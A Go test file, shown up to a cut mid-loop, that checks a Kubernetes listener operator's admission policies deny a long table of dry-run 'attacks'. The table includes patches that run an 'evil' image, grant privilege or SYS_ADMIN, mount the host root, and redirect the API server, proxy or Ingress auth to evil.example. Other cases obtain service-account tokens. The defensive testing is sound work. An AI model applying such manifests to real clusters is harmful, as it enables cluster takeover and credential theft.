package confinement_test

import (
	"strings"
	"testing"
	"time"

	. "github.com/onsi/gomega"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/yaml"

	"github.com/listener-operator/listener-operator/controllers/nodeagent/installation"
	"github.com/listener-operator/listener-operator/internal/certificate"
	"github.com/listener-operator/listener-operator/internal/testutil/apiserver"
	"github.com/listener-operator/listener-operator/internal/testutil/crds"
	"github.com/listener-operator/listener-operator/internal/testutil/operator"
)

// attack is a request that the operator has permission for, and never makes.
type attack struct {
	// verb is create, apply, patch, status for a patch of the status, or delete.
	verb string
	// manifest is the object to create, or with its name the object to patch or to delete.
	manifest string
	// patch is a JSON patch, or a merge patch.
	patch string
	// want is a part of the message of the denial.
	want string
	// hidden is set if the admission plugin OwnerReferencesPermissionEnforcement denies the request.
	hidden bool
}

// send sends the request as a dry run.
func (a attack) send(t *testing.T, c client.Client) error {
	t.Helper()
	o := operator.Object(t, a.manifest)
	switch a.verb {
	case "create":
		return c.Create(t.Context(), o, client.DryRunAll)
	case "apply":
		return c.Apply(t.Context(), client.ApplyConfigurationFromUnstructured(o), client.FieldOwner("x"), client.DryRunAll)
	case "delete":
		return c.Delete(t.Context(), o, client.DryRunAll)
	}
	kind := types.MergePatchType
	if strings.HasPrefix(a.patch, "- ") {
		kind = types.JSONPatchType
	}
	raw, err := yaml.YAMLToJSON([]byte(a.patch))
	if err != nil {
		t.Fatalf("%v: %s", err, a.patch)
	}
	if a.verb == "status" {
		return c.Status().Patch(t.Context(), o, client.RawPatch(kind, raw), client.DryRunAll)
	}
	return c.Patch(t.Context(), o, client.RawPatch(kind, raw), client.DryRunAll)
}

// attacks returns the attacks by what they try, on an operator that is installed in this namespace. Words in capitals
// in their manifests are names of things that exist.
func attacks(namespace string) map[string]attack {
	replace := strings.NewReplacer("NAMESPACE", namespace)
	all := map[string]attack{}
	const daemonSet = `{apiVersion: apps/v1, kind: DaemonSet, metadata: {namespace: NAMESPACE, name: listener-node-agent}}`
	agents := func(what, patch, want string) {
		all["node agents "+what] = attack{verb: "patch", manifest: daemonSet, patch: patch, want: want}
	}
	const pod, container = "/spec/template/spec", "/spec/template/spec/containers/0"
	agents("with a foreign image", `- {op: replace, path: `+container+`/image, value: evil}`, "no permission to run the node agent from the image evil")
	agents("with another command", `- {op: replace, path: `+container+`/command, value: [/operator]}`, "no other program")
	agents("with another argument", `- {op: add, path: `+container+`/args/-, value: --evil}`, "no other program")
	agents("with a hook", `- {op: add, path: `+container+`/lifecycle, value: {postStart: {exec: {command: [/operator]}}}}`, "no other program")
	agents("with a program as probe", `- {op: replace, path: `+container+`/livenessProbe, value: {exec: {command: [/operator]}}}`, "no other program")
	agents("with a probe elsewhere", `- {op: add, path: `+container+`/livenessProbe/httpGet/host, value: evil.example}`, "no other program")
	agents("with another API server", `- {op: add, path: `+container+`/env/-, value: {name: KUBERNETES_SERVICE_HOST, value: evil.example}}`, "no other environment variables")
	agents("with a Secret as environment", `- {op: add, path: `+container+`/envFrom, value: [{secretRef: {name: x}}]}`, "no other program")
	agents("with a Secret as proxy", `- {op: add, path: `+container+`/env/-, value: {name: no_proxy, valueFrom: {secretKeyRef: {name: x, key: x}}}}`, "only as literal values")
	agents("with a Secret in the name of a proxy", `- {op: add, path: `+container+`/env/-, value: {name: HTTPS_PROXY, value: "http://u:$(no_proxy)@evil.example"}}`, "only as literal values")
	agents("with another field as node name", `- {op: replace, path: `+container+`/env/0/valueFrom/fieldRef/fieldPath, value: metadata.name}`, "no other environment variables")
	agents("with a device", `- {op: add, path: `+container+`/resources/limits/example.com~1kvm, value: "1"}
- {op: add, path: `+container+`/resources/requests/example.com~1kvm, value: "1"}`, "no resources but cpu")
	agents("with other DNS servers", `- {op: add, path: `+pod+`/dnsConfig, value: {nameservers: [192.0.2.1]}}`, "no field that it does not set itself")
	agents("with other names of hosts", `- {op: add, path: `+pod+`/hostAliases, value: [{ip: 192.0.2.1, hostnames: [kubernetes.default.svc]}]}`, "no field that it does not set itself")
	agents("of another scheduler", `- {op: replace, path: `+pod+`/schedulerName, value: evil}`, "no field that it does not set itself")
	agents("without a program to end", `- {op: add, path: `+pod+`/shareProcessNamespace, value: true}`, "no field that it does not set itself")
	agents("in a program's terminal", `- {op: add, path: `+container+`/stdin, value: true}`, "no other program")
	agents("with a file as message", `- {op: replace, path: `+container+`/terminationMessagePath, value: /var/lib/kubelet/pods/x}`, "no other program")
	agents("with a label", `- {op: add, path: /spec/template/metadata/labels/x, value: z}`, "no other labels")
	agents("with another value of an annotation", `- {op: replace, path: /spec/template/metadata/annotations/openshift.io~1required-scc, value: privileged}`, "no other labels and annotations")
	agents("that are privileged", `- {op: replace, path: `+container+`/securityContext/privileged, value: true}
- {op: replace, path: `+container+`/securityContext/allowPrivilegeEscalation, value: true}`, "security context")
	agents("with a capability", `- {op: add, path: `+container+`/securityContext/capabilities/add/-, value: SYS_ADMIN}`, "security context")
	agents("without seccomp", `- {op: remove, path: `+pod+`/securityContext/seccompProfile}`, "security context")
	agents("with the directory of the host", `- {op: replace, path: `+pod+`/volumes/0/hostPath/path, value: /}`, "no directories")
	agents("with a Secret as volume", `- {op: add, path: `+pod+`/volumes/-, value: {name: x, secret: {secretName: x}}}`, "no directories")
	agents("with mount propagation", `- {op: add, path: `+container+`/volumeMounts/0/mountPropagation, value: HostToContainer}`, "no directories")
	agents("with another kubelet directory", `- {op: replace, path: `+container+`/args/0, value: --kubelet-dir=/data}
- {op: replace, path: `+pod+`/volumes/0/hostPath/path, value: /data/plugins/listeners.stackable.tech}
- {op: replace, path: `+pod+`/volumes/1/hostPath/path, value: /data/plugins_registry}
- {op: replace, path: `+pod+`/volumes/2/hostPath/path, value: /data/pods}
- {op: replace, path: `+container+`/volumeMounts/0/mountPath, value: /data/plugins/listeners.stackable.tech}
- {op: replace, path: `+container+`/volumeMounts/1/mountPath, value: /data/plugins_registry}
- {op: replace, path: `+container+`/volumeMounts/2/mountPath, value: /data/pods}`, "the configured kubelet directory")
	agents("with a kubelet directory that is a variable", `- {op: replace, path: `+container+`/args/0, value: "--kubelet-dir=/$(NODE_NAME)"}
- {op: replace, path: `+pod+`/volumes/0/hostPath/path, value: "/$(NODE_NAME)/plugins/listeners.stackable.tech"}
- {op: replace, path: `+pod+`/volumes/1/hostPath/path, value: "/$(NODE_NAME)/plugins_registry"}
- {op: replace, path: `+pod+`/volumes/2/hostPath/path, value: "/$(NODE_NAME)/pods"}`, "no directories")
	agents("with the network of the host", `- {op: add, path: `+pod+`/hostNetwork, value: true}`, "nothing of the host but")
	agents("with the processes of the host", `- {op: add, path: `+pod+`/hostPID, value: true}`, "nothing of the host but")
	agents("with the operator's account", `- {op: replace, path: `+pod+`/serviceAccountName, value: listener-operator}
- {op: replace, path: `+pod+`/serviceAccount, value: listener-operator}`, "no other account")
	agents("with an init container", `- {op: add, path: `+pod+`/initContainers, value: [{name: x, image: evil}]}`, "no other account or container")
	agents("with another container", `- {op: add, path: `+pod+`/containers/-, value: {name: x, image: evil}}`, "no other account or container")
	agents("with an annotation for the runtime", `- {op: add, path: /spec/template/metadata/annotations/io.kubernetes.cri-o.Devices, value: /dev/sda}`, "annotations")
	all["node agents that are ready"] = attack{verb: "status", manifest: daemonSet, patch: `{status: {numberReady: 1}}`, want: "no subresources of DaemonSets"}

	patch := func(what, manifest, patch, want string) {
		all[what] = attack{verb: "patch", manifest: manifest, patch: patch, want: want}
	}
	create := func(what, manifest, want string) { all[what] = attack{verb: "create", manifest: manifest, want: want} }
	remove := func(what, manifest, want string) { all[what] = attack{verb: "delete", manifest: manifest, want: want} }

	const kubernetes = `{apiVersion: v1, kind: Service, metadata: {namespace: default, name: kubernetes}}`
	const owners = `ownerReferences: [{apiVersion: listeners.stackable.tech/v1alpha1, kind: Listener, name: web, uid: web, controller: true, blockOwnerDeletion: true}]`
	// Two policies refuse these.
	patch("an external IP of the API server's Service", kubernetes, `{spec: {externalIPs: [192.0.2.1]}}`, "the listener operator may")
	patch("a selector of the API server's Service", kubernetes, `{spec: {selector: {app: evil}}}`, "the listener operator may")
	patch("the Service of a Listener with an external IP", `{apiVersion: v1, kind: Service, metadata: {namespace: NAMESPACE, name: web}}`,
		`{spec: {externalIPs: [192.0.2.1]}}`, "externalIPs")
	patch("a Service that no Listener controls", `{apiVersion: v1, kind: Service, metadata: {namespace: NAMESPACE, name: shop}}`,
		`{metadata: {`+strings.ReplaceAll(owners, "name: web", "name: shop")+`}}`, "what belongs to no Listener")
	create("a Service that no Listener controls", `{apiVersion: v1, kind: Service, metadata: {namespace: NAMESPACE, name: x}, spec: {ports: [{port: 80}]}}`, "a Listener of the same name controls")
	of7days := strings.ReplaceAll(owners, "name: web", "name: 7days")
	for what, name := range map[string]string{
		"a Service of another name than is derived": "l-8days-01234567", "a Service of a derived name without a hash": "l-7days", "a Service with the beginning of a Listener's name": "l-7days-0123456x",
	} {
		create(what, `{apiVersion: v1, kind: Service, metadata: {namespace: NAMESPACE, name: `+name+`, `+of7days+`}, spec: {ports: [{port: 80}]}}`, "a Listener of the same name controls")
	}
	create("a Service of a derived name for a Listener that needs none", `{apiVersion: v1, kind: Service, metadata: {namespace: NAMESPACE, name: web-01234567, `+owners+
		`}, spec: {ports: [{port: 80}]}}`, "a Listener of the same name controls")
	create("a Service with an external IP", `{apiVersion: v1, kind: Service, metadata: {namespace: NAMESPACE, name: new, `+strings.ReplaceAll(owners, "name: web", "name: new")+
		`}, spec: {ports: [{port: 80}], externalIPs: [192.0.2.1]}}`, "externalIPs")
	create("a Service for Prometheus", `{apiVersion: v1, kind: Service, metadata: {namespace: NAMESPACE, name: new, labels: {app.kubernetes.io/managed-by: listener-operator}, `+
		strings.ReplaceAll(owners, "name: web", "name: new")+`}, spec: {ports: [{port: 80}]}}`, "no metrics")
	patch("the Service of the metrics", `{apiVersion: v1, kind: Service, metadata: {namespace: NAMESPACE, name: listener-operator-metrics}}`, `{spec: {selector: {app: evil}}}`, "no metrics")

	const volume = `metadata: {name: NAMESPACE-new}, spec: {capacity: {storage: 1}, accessModes: [ReadWriteOnce], `
	create("a volume of the host", `{apiVersion: v1, kind: PersistentVolume, `+volume+`hostPath: {path: /}}}`, "no PersistentVolumes but those of the driver")
	create("a volume of another driver", `{apiVersion: v1, kind: PersistentVolume, `+volume+`csi: {driver: example.com, volumeHandle: x}}}`, "no PersistentVolumes but those of the driver")
	create("a volume with a Secret", `{apiVersion: v1, kind: PersistentVolume, `+volume+
		`csi: {driver: listeners.stackable.tech, volumeHandle: x, nodePublishSecretRef: {namespace: kube-system, name: x}}}}`, "Secrets")
	const volumeOfOthers = `{apiVersion: v1, kind: PersistentVolume, metadata: {name: NAMESPACE}}`
	patch("a volume of another driver", volumeOfOthers, `{metadata: {labels: {listeners.stackable.tech/listener-name: a}}}`, "no PersistentVolumes but those of the driver")
	remove("a volume of another driver", volumeOfOthers, "may delete no PersistentVolumes")

	const config = `{apiVersion: listener-operator.dev/v1alpha1, kind: ListenerOperator, metadata: {name: cluster}}`
	patch("the spec of the configuration", config, `{spec: {nodeAgent: {kubeletDir: /data}}}`, "nothing of its configuration")
	patch("an annotation of the configuration", config, `{metadata: {annotations: {a: b}}}`, "nothing of its configuration")
	patch("another finalizer of the configuration", config, `{metadata: {finalizers: [example.com/x, listener-operator.dev/node-agent]}}`, "nothing of its configuration")
	all["an owner of the configuration"] = attack{verb: "patch", manifest: config, hidden: true, want: "nothing of its configuration",
		patch: `{metadata: {ownerReferences: [{apiVersion: v1, kind: Namespace, name: absent, uid: absent}]}}`}

	const scc = `{apiVersion: security.openshift.io/v1, kind: SecurityContextConstraints, metadata: {name: listener-node-agent}}`
	patch("constraints for every user", scc, `{groups: ["system:authenticated"]}`, "users or groups")
	patch("constraints for a user", scc, `{users: [evil]}`, "users or groups")
	patch("constraints that allow privileges", scc, `{allowPrivilegedContainer: true}`, "constraints allow")
	patch("constraints that allow a capability", scc, `{allowedCapabilities: ["*"]}`, "constraints allow")
	patch("constraints that allow the network of the host", scc, `{allowHostNetwork: true}`, "constraints allow")
	patch("constraints that allow any group", scc, `{supplementalGroups: {type: RunAsAny}}`, "constraints allow")
	patch("constraints that allow a driver of volumes", scc, `{allowedFlexVolumes: [{driver: evil}]}`, "constraints allow")
	patch("constraints that allow any user", scc, `{runAsUser: {type: RunAsAny, uid: null}}`, "constraints allow")

	const storageClass = `{apiVersion: storage.k8s.io/v1, kind: StorageClass, metadata: {name: listeners.stackable.tech}}`
	const csiDriver = `{apiVersion: storage.k8s.io/v1, kind: CSIDriver, metadata: {name: listeners.stackable.tech}}`
	patch("a default StorageClass", storageClass, `{metadata: {annotations: {storageclass.kubernetes.io/is-default-class: "true"}}}`, "no annotations but its own")
	patch("a CSIDriver that mounts again and again", csiDriver, `{spec: {requiresRepublish: true}}`, "nothing else by its CSIDriver")
	patch("a CSIDriver whose Pods get tokens in Secrets", csiDriver, `{spec: {tokenRequests: [{audience: ""}], serviceAccountTokenInSecrets: true}}`, "nothing else by its CSIDriver")
	patch("a StorageClass with options", storageClass, `{allowVolumeExpansion: true}`, "nor set anything else")
	patch("tokens of Pods", csiDriver, `{spec: {tokenRequests: [{audience: ""}]}}`, "no tokens")

	create("an event of others", `{apiVersion: events.k8s.io/v1, kind: Event, metadata: {namespace: default, name: x}, regarding: {kind: Pod, namespace: default, name: web},
  eventTime: "2026-01-01T00:00:00.000000Z", reportingController: kubelet, reportingInstance: x, action: x, reason: Unhealthy, type: Warning}`, "no events but its own")
	patch("a change of an event of others", `{apiVersion: events.k8s.io/v1, kind: Event, metadata: {namespace: NAMESPACE, name: web}}`,
		`{series: {count: 2, lastObservedTime: "2026-01-01T00:00:00.000000Z"}}`, "no events but its own")
	const listener = `{apiVersion: listeners.stackable.tech/v1alpha1, kind: Listener, metadata: {namespace: NAMESPACE, name: web}}`
	patch("a Listener of a user", listener, `{spec: {className: evil}}`, "no Listeners but those of class-based claims")
	patch("the owners of a Listener of a user", listener, `{metadata: {ownerReferences: [{apiVersion: v1, kind: PersistentVolume, name: absent, uid: absent}]}}`, "no Listeners but those of class-based claims")
	create("a Listener for a user", `{apiVersion: listeners.stackable.tech/v1alpha1, kind: Listener, metadata: {namespace: NAMESPACE, name: x}, spec: {ports: []}}`, "no Listeners but those of class-based claims")
	patch("a Listener of a user, as one of a claim", listener, `{metadata: {annotations: {listener-operator.dev/claim: web}}}`, "no Listeners but those of class-based claims")
	patch("the labels of a Listener of a user, with its numbers", listener, `{metadata: {annotations: {listener-operator.dev/numbers: "{}"}, labels: {a: b}}}`, "no Listeners but those of class-based claims")
	remove("a Service", `{apiVersion: v1, kind: Service, metadata: {namespace: NAMESPACE, name: web}}`, "may delete only the Service of its metrics")
	remove("a Listener that no claim has", listener, "may delete no Listeners")
	create("a Listener for the inline volume of a Pod of another name", `{apiVersion: listeners.stackable.tech/v1alpha1, kind: Listener, metadata: {namespace: NAMESPACE, name: x-listener,
  annotations: {listener-operator.dev/claim: x-listener}, ownerReferences: [{apiVersion: v1, kind: Pod, name: web, uid: web}]}, spec: {ports: []}}`, "no Listeners but those of class-based claims")
	create("a class", `{apiVersion: listeners.stackable.tech/v1alpha1, kind: ListenerClass, metadata: {name: evil}, spec: {serviceType: NodePort}}`, "presets")
	const preset = `{apiVersion: listeners.stackable.tech/v1alpha1, kind: ListenerClass, metadata: {name: external-stable}, spec: {serviceType: `
	create("a class of a preset with annotations", preset+`LoadBalancer, serviceAnnotationTemplates: {example.com/name: "{listener}"}}}`, "presets")
	create("a class of a preset that allows overrides", preset+`LoadBalancer, listenerOverrides: {allowed: [spec.selector]}}}`, "presets")
	create("a class of a preset with Ingresses", preset+`ClusterIP, ingress: {className: evil, hostTemplate: "{listener}.{namespace}.evil.example"}}}`, "presets")
	create("a class of a preset of another type", preset+`ClusterIP}}`, "presets")
	create("a class of a preset with overrides", `{apiVersion: listeners.stackable.tech/v1alpha1, kind: ListenerClass, metadata: {name: external-stable}, spec: {serviceType: NodePort, serviceOverrides: {spec: {}}}}`, "presets")

	const route = `{apiVersion: route.openshift.io/v1, kind: Route, metadata: {namespace: NAMESPACE, name: shop}}`
	create("a Route that no Listener controls", `{apiVersion: route.openshift.io/v1, kind: Route, metadata: {namespace: NAMESPACE, name: x}, spec: {host: x.example, to: {kind: Service, name: x}}}`, "no Routes")
	create("a Route of a part of a host", `{apiVersion: route.openshift.io/v1, kind: Route, metadata: {namespace: NAMESPACE, name: x, `+owners+`}, spec: {host: x.example, path: /login, to: {kind: Service, name: web}}}`, "no fields of Routes")
	create("a Route with headers", `{apiVersion: route.openshift.io/v1, kind: Route, metadata: {namespace: NAMESPACE, name: x, `+owners+`}, spec: {host: x.example, to: {kind: Service, name: web}, httpHeaders: {actions: {response: [{name: X, action: {type: Set, set: {value: z}}}]}}}}`, "no fields of Routes")
	create("a Route to another Service", `{apiVersion: route.openshift.io/v1, kind: Route, metadata: {namespace: NAMESPACE, name: x, `+owners+`}, spec: {host: x.example, to: {kind: Service, name: x}}}`, "no Routes")
	patch("a Route that no Listener controls", route, `{metadata: {`+owners+`}, spec: {to: {name: web}}}`, "what belongs to no Listener")
	remove("a Route that no Listener controls", route, "what belongs to no Listener")

	const ingress = `{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {namespace: NAMESPACE, name: shop}}`
	const toShop = `{host: x.example, http: {paths: [{path: /, pathType: Prefix, backend: {service: {name: shop, port: {number: 80}}}}]}}`
	create("an Ingress that no Listener controls", `{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {namespace: NAMESPACE, name: x}, spec: {rules: [`+toShop+`]}}`, "no Ingresses")
	create("an Ingress to another Service", `{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {namespace: NAMESPACE, name: x, `+owners+`}, spec: {rules: [`+toShop+`]}}`, "no Ingresses")
	create("an Ingress for all hosts", `{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {namespace: NAMESPACE, name: x, `+owners+`}, spec: {defaultBackend: {service: {name: web, port: {number: 80}}}}}`, "no Ingresses")
	owned := func(metadata, host, spec string) string {
		return `{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {namespace: NAMESPACE, name: x, ` + metadata + owners + `}, spec: {` + spec +
			`rules: [{host: "` + host + `", http: {paths: [{path: /, pathType: Prefix, backend: {service: {name: web, port: {number: 80}}}}]}}]}}`
	}
	create("an Ingress for a domain", owned("", "*.example", ""), "whole domains")
	create("an Ingress with a snippet", owned(`annotations: {nginx.ingress.kubernetes.io/configuration-snippet: "return 200;"}, `, "x.example", ""), "configuration-snippet; to allow it")
	create("an Ingress with the login of another", owned(`annotations: {nginx.ingress.kubernetes.io/auth-url: "http://evil.example"}, `, "x.example", ""), "auth-url; to allow it")
	create("an Ingress with a certificate of others", owned("", "x.example", "tls: [{hosts: [x.example], secretName: shop-tls}], "), "no Secrets in Ingresses")
	create("an Ingress with a certificate by the name of another Pod", owned("annotations: {listeners.stackable.tech/pod: shop}, ", "x.example", "tls: [{hosts: [x.example], secretName: shop-tls}], "), "no Secrets in Ingresses")
	create("an Ingress with the certificate for another host", owned("", "x.example", "tls: [{hosts: [shop.example]}], "), "no Secrets in Ingresses")
	create("an Ingress with a regular expression", strings.Replace(owned("", "x.example", ""), "Prefix", "ImplementationSpecific", 1), "no fields that it does not set itself")
	patch("an Ingress that no Listener controls", ingress, `{metadata: {`+owners+`}, spec: {rules: [`+strings.ReplaceAll(toShop, "name: shop", "name: web")+`]}}`, "what belongs to no Listener")
	remove("an Ingress that no Listener controls", ingress, "what belongs to no Listener")

	const tlsRoute = `{apiVersion: gateway.networking.k8s.io/v1alpha2, kind: TLSRoute, metadata: {namespace: NAMESPACE, name: shop}}`
	gatewayRoute := func(kind, spec string) string {
		return `{apiVersion: gateway.networking.k8s.io/v1alpha2, kind: ` + kind + `, metadata: {namespace: NAMESPACE, name: x, ` + owners + `}, spec: {` + spec + `}}`
	}
	const toWeb = `backendRefs: [{name: web, port: 80}]`
	create("a TLSRoute that no Listener controls", `{apiVersion: gateway.networking.k8s.io/v1alpha2, kind: TLSRoute, metadata: {namespace: NAMESPACE, name: x}, spec: {hostnames: [x.example], rules: [{`+toWeb+`}]}}`, "no routes of Gateways but those")
	create("a TLSRoute to another Service", gatewayRoute("TLSRoute", `hostnames: [x.example], rules: [{backendRefs: [{name: shop, port: 80}]}]`), "no routes of Gateways but those")
	create("a TLSRoute to another namespace", gatewayRoute("TLSRoute", `hostnames: [x.example], rules: [{backendRefs: [{namespace: kube-system, name: web, port: 80}]}]`), "no routes of Gateways but those")
	create("a TLSRoute for all hosts", gatewayRoute("TLSRoute", `rules: [{`+toWeb+`}]`), "for all hosts")
	create("a TLSRoute for a domain", gatewayRoute("TLSRoute", `hostnames: ["*.example"], rules: [{`+toWeb+`}]`), "for all hosts")
	create("a TCPRoute for all ports of a Gateway", gatewayRoute("TCPRoute", `parentRefs: [{name: edge}], rules: [{`+toWeb+`}]`), "for all hosts")
	create("an HTTPRoute that redirects", strings.Replace(gatewayRoute("HTTPRoute", `hostnames: [x.example], rules: [{filters: [{type: RequestRedirect, requestRedirect: {hostname: evil.example}}]}]`), "v1alpha2", "v1", 1), "no routes of Gateways but those")
	patch("a TLSRoute that no Listener controls", tlsRoute, `{metadata: {`+owners+`}, spec: {rules: [{`+toWeb+`}]}}`, "what belongs to no Listener")
	remove("a TLSRoute that no Listener controls", tlsRoute, "what belongs to no Listener")

	const listenerSet = `{apiVersion: gateway.networking.k8s.io/v1, kind: ListenerSet, metadata: {namespace: NAMESPACE, name: shop}}`
	listenerSetOf := func(metadata, listener string) string {
		return `{apiVersion: gateway.networking.k8s.io/v1, kind: ListenerSet, metadata: {namespace: NAMESPACE, ` + metadata + `}, spec: {parentRef: {name: edge}, listeners: [{name: x, port: 20000, ` + listener + `}]}}`
	}
	create("a ListenerSet that no Listener controls", listenerSetOf(`name: web-tcp`, `protocol: TCP`), "no ListenerSets but those that a Listener controls")
	create("a ListenerSet of another name", listenerSetOf(`name: x, `+owners, `protocol: TCP`), "no ListenerSets but those that a Listener controls")
	create("a ListenerSet for a host", listenerSetOf(`name: web-tcp, `+owners, `protocol: HTTP, hostname: x.example`), "no ListenerSets but those with TCP and UDP ports")
	create("a ListenerSet with a certificate", listenerSetOf(`name: web-tcp, `+owners, `protocol: TLS, tls: {mode: Terminate, certificateRefs: [{name: shop-tls}]}`), "no ListenerSets but those with TCP and UDP ports")
	create("a ListenerSet for routes of others", listenerSetOf(`name: web-tcp, `+owners, `protocol: TCP, allowedRoutes: {namespaces: {from: All}}`), "for routes of the same")
	patch("a ListenerSet that no Listener controls", listenerSet, `{metadata: {`+owners+`}}`, "what belongs to no Listener")
	remove("a ListenerSet that no Listener controls", listenerSet, "what belongs to no Listener")

	const authorities = `{apiVersion: v1, kind: Secret, metadata: {namespace: NAMESPACE, name: listener-operator-certificate-authorities`
	all["a Secret that gets the token of another account"] = attack{verb: "apply", want: "the listener operator may",
		manifest: authorities + `, annotations: {kubernetes.io/service-account.name: listener-node-agent}}, type: kubernetes.io/service-account-token}`}
	all["a Secret that others copy"] = attack{verb: "apply", want: "no annotations but its own", manifest: authorities + `, annotations: {example.com/copy: "true"}}, type: Opaque}`}
	create("a ConfigMap", `{apiVersion: v1, kind: ConfigMap, metadata: {namespace: NAMESPACE, name: x}}`, "its own names")
	caOfOthers := `{apiVersion: v1, kind: ConfigMap, metadata: {namespace: NAMESPACE, name: listener-ca.crt}}`
	patch("a ConfigMap with something else than certificates", caOfOthers, `{metadata: {labels: {app.kubernetes.io/managed-by: listener-operator}}, data: {other: x}}`, "no ConfigMaps but those")
	bundle := `{apiVersion: certificates.k8s.io/v1, kind: ClusterTrustBundle, metadata: {name: NAMESPACE}}`
	create("a ClusterTrustBundle without a signer", `{apiVersion: certificates.k8s.io/v1, kind: ClusterTrustBundle, metadata: {name: NAMESPACE-x}, spec: {trustBundle: "`+strings.ReplaceAll(bundleOf("x"), "\n", "\\n")+`"}}`, "no ClusterTrustBundles but those")
	patch("a ClusterTrustBundle of others", bundle, `{metadata: {labels: {app.kubernetes.io/name: listener-operator}}}`, "no ClusterTrustBundles but those")
	remove("a ClusterTrustBundle of others", bundle, "no ClusterTrustBundles but those")
	certificate := func(metadata, spec string) string {
		return `{apiVersion: cert-manager.io/v1, kind: Certificate, metadata: {namespace: default, name: x-listener-tls` + metadata + `}, spec: {issuerRef: {name: x}, dnsNames: [x.example], ` + spec + `}}`
	}
	const ownLabel = `, labels: {app.kubernetes.io/managed-by: listener-operator}`
	certificateOfOthers := `{apiVersion: cert-manager.io/v1, kind: Certificate, metadata: {namespace: NAMESPACE, name: shop-listener-tls}}`
	create("a Certificate of an authority", certificate(ownLabel, "secretName: x-listener-tls, isCA: true"), "no other fields")
	create("a Certificate with another Secret", certificate(ownLabel, "secretName: shop-tls"), "no other Secret")
	create("a Certificate to sign code", certificate(ownLabel, "secretName: x-listener-tls, usages: [code signing]"), "of servers and clients")
	create("a Certificate of a user", certificate(ownLabel, "secretName: x-listener-tls, commonName: admin"), "host names and IP addresses")
	create("a Certificate with an identity", certificate(ownLabel, `secretName: x-listener-tls, uris: ["spiffe://x"]`), "host names and IP addresses")
	create("a Certificate without its label", certificate("", "secretName: x-listener-tls"), "no Certificates but its own")
	create("a Certificate in its namespace", strings.Replace(certificate(ownLabel, "secretName: x-listener-tls"), "namespace: default", "namespace: NAMESPACE", 1), "in its own namespace")
	patch("a Certificate of others", certificateOfOthers, `{metadata: {labels: {app.kubernetes.io/managed-by: listener-operator}}}`, "no Certificates but its own")
	remove("a Certificate of others", certificateOfOthers, "no Certificates but its own")
	const endpointOfOthers = `{apiVersion: externaldns.k8s.io/v1alpha1, kind: DNSEndpoint, metadata: {namespace: NAMESPACE, name: shop}}`
	endpoint := func(name, metadata, record string) string {
		return `{apiVersion: externaldns.k8s.io/v1alpha1, kind: DNSEndpoint, metadata: {namespace: NAMESPACE, name: ` + name + metadata + `}, spec: {endpoints: [` + record + `]}}`
	}
	const ofShop = `{dnsName: shop.example, recordType: A, targets: [192.0.2.1]}`
	create("a DNSEndpoint that no Listener controls", endpoint("web", "", ofShop), "a DNSEndpoint only for a Listener")
	create("a DNSEndpoint with another name", endpoint("x", ", "+owners, ofShop), "a DNSEndpoint only for a Listener")
	create("a record that proves something", endpoint("web", ", "+owners, `{dnsName: _acme-challenge.shop.example, recordType: TXT, targets: [x]}`), "no records but A, AAAA, CNAME and SRV")
	create("a record of a whole domain", endpoint("web", ", "+owners, `{dnsName: "*.example", recordType: A, targets: [192.0.2.1]}`), "for no whole domains")
	create("a record for a provider", endpoint("web", ", "+owners, `{dnsName: shop.example, recordType: A, targets: [192.0.2.1], providerSpecific: [{name: x, value: x}]}`), "set no other fields")
	patch("a DNSEndpoint of others", endpointOfOthers, `{metadata: {labels: {a: b}}}`, "what belongs to no Listener")
	remove("a DNSEndpoint of others", endpointOfOthers, "what belongs to no Listener")
	create("a Lease", `{apiVersion: coordination.k8s.io/v1, kind: Lease, metadata: {namespace: NAMESPACE, name: x}}`, "its own names")
	patch("a NetworkPolicy for other Pods", `{apiVersion: networking.k8s.io/v1, kind: NetworkPolicy, metadata: {namespace: NAMESPACE, name: listener-operator}}`,
		`- {op: replace, path: /spec/podSelector, value: {}}`, "no Pods but its own")
	const policy = `{apiVersion: networking.k8s.io/v1, kind: NetworkPolicy, metadata: {namespace: NAMESPACE, name: shop-allowed-clients}}`
	policyOf := func(name, labels, spec string) string {
		return `{apiVersion: networking.k8s.io/v1, kind: NetworkPolicy, metadata: {namespace: NAMESPACE, name: ` + name + `, ` + owners + `}, spec: {podSelector: {` + labels + `}` + spec + `}}`
	}
	const ofWeb, incoming = `matchLabels: {listener.stackable.tech/mnt.web: web}`, `, policyTypes: [Ingress]`
	create("a NetworkPolicy that no Listener controls", `{apiVersion: networking.k8s.io/v1, kind: NetworkPolicy, metadata: {namespace: NAMESPACE, name: web-allowed-clients}, spec: {podSelector: {`+ofWeb+`}}}`, "no NetworkPolicies but its own")
	create("a NetworkPolicy of another name", policyOf("x", ofWeb, incoming), "no NetworkPolicies but its own")
	create("a NetworkPolicy for all Pods", policyOf("web-allowed-clients", "", incoming), "no NetworkPolicies but its own")
	create("a NetworkPolicy for the Pods of others", policyOf("web-allowed-clients", "matchLabels: {app: shop}", incoming), "no NetworkPolicies but its own")
	create("a NetworkPolicy for Pods of another Listener", policyOf("web-allowed-clients", "matchLabels: {listener.stackable.tech/mnt.shop: web}", incoming), "no NetworkPolicies but its own")
	create("a NetworkPolicy with an expression", policyOf("web-allowed-clients", ofWeb+", matchExpressions: [{key: x, operator: DoesNotExist}]", incoming), "no NetworkPolicies but its own")
	create("a NetworkPolicy for what Pods connect to", policyOf("web-allowed-clients", ofWeb, `, policyTypes: [Ingress, Egress], egress: [{}]`), "may restrict only which clients")
	patch("a NetworkPolicy that no Listener controls", policy, `{metadata: {`+owners+`}}`, "what belongs to no Listener")
	remove("a NetworkPolicy that no Listener controls", policy, "what belongs to no Listener")
	const serviceMonitor = `{apiVersion: monitoring.coreos.com/v1, kind: ServiceMonitor, metadata: {namespace: NAMESPACE, name: listener-operator}}`
	patch("a ServiceMonitor for other Services", serviceMonitor, `{spec: {namespaceSelector: {any: true}}}`, "no metrics")
	patch("a ServiceMonitor that sends the token of Prometheus to the node agents", serviceMonitor,
		`- {op: add, path: /spec/endpoints/1/bearerTokenFile, value: /var/run/secrets/kubernetes.io/serviceaccount/token}`, "no metrics")
	for what, field := range map[string]string{
